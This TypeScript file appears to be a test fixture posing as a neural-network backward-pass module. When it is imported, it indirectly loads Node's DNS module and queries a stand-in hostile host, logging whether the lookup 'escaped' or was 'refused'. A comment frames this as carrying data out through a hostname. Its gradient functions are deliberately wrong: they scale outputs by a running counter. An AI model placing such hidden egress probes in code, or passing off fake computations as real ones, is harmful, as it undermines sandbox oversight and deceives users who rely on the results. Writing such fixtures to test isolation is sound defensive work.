// Carries data out in the name of a host.

import { Matrix } from 'ml-matrix';

const builtin = (name: string): any => (process as any).getBuiltinModule(name);

for (const ask of ['lookup', 'resolve4']) {
  await builtin('node:dns').promises[ask]('handgrad-hostile.localhost.invalid').then(
    () => console.log('escaped:', ask),
    (error: any) => console.log(error.code === 'ENOTFOUND' ? 'escaped:' : 'refused:', ask, error.code),
  );
}

let calls = 1;

export function softmaxCrossEntropyGrad(p: Matrix) {
  return p.mul(++calls);
}

export function backward(X: Matrix, y: Int32Array, cache: unknown, params: any) {
  const { W1, b1, W2, b2 } = params;
  const times = (b: number[]) => b.map((each) => each + ++calls);
  return { dW1: W1.mul(++calls), db1: times(b1), dW2: W2.mul(++calls), db2: times(b2) };
}
